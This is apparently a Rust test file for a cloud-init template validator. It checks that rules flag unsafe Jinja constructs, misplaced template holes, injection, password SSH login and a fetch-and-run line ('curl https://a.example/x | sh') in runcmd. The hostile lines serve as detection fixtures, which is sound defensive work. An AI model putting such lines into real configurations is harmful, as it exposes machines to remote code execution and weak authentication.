//! Templates: holes, and what they become.

use super::found;

#[test]
fn what_a_template_may_not_do_is_found() {
    for (body, rule) in [
        ("hostname: {{ hostname|safe }}", "template-construct"),
        ("{% autoescape false %}\nhostname: {{ hostname }}\n{% endautoescape %}", "template-construct"),
        ("{% include 'a' %}", "template-construct"),
        ("{% set a = 'b' %}\nhostname: {{ a }}", "template-construct"),
        ("hostname: a{{ hostname }}", "template-hole"),
        ("hostname: \"{{ hostname }}\"", "template-hole"),
        ("# {{ hostname }}\nhostname: a", "template-hole"),
        ("{{ hostname }}: a", "template-hole"),
        ("runcmd:\n  - echo {{ hostname }}", "template-hole"),
        ("hostname: {{ other }}", "template-variable"),
        ("hostname: {{ hostname", "template-syntax"),
        ("hostname: a\n{% if runner == 'true' %}\ntimezone: UTC\n{% endif %}", "template-injection"),
        ("ssh_pwauth: true", "cloud-init-login"),
        ("runcmd:\n  - curl https://a.example/x | sh", "shell-fetch-and-run"),
    ] {
        let found = found("cloud-init/a.yaml.j2", &format!("#cloud-config\n{body}\n"));
        assert!(found.iter().any(|found| found == rule), "{body}: {found:?}");
    }
}

#[test]
fn a_finding_is_at_the_templates_own_line() {
    let report = super::judge(&[("a.yaml.j2", "#cloud-config\nhostname: {{ hostname }}\nssh_pwauth: true\n")], None);
    let [finding] = report.findings.as_slice() else { panic!("{report:?}") };
    assert_eq!((finding.place().unwrap().span.line, finding.rule.as_ref()), (3, "cloud-init-login"));
}

#[test]
fn a_sign_that_opens_does_not_close_as_well() {
    for text in ["{%}", "{%}\n%}", "{{}", "{{}}}", "{{}\n}}", "{% if hostname %}\n{%}\nti% endif %}\n", "%}{%"] {
        assert!(!found("cloud-init/a.yaml.j2", &format!("#cloud-config\n{text}\n")).is_empty(), "{text}");
    }
}
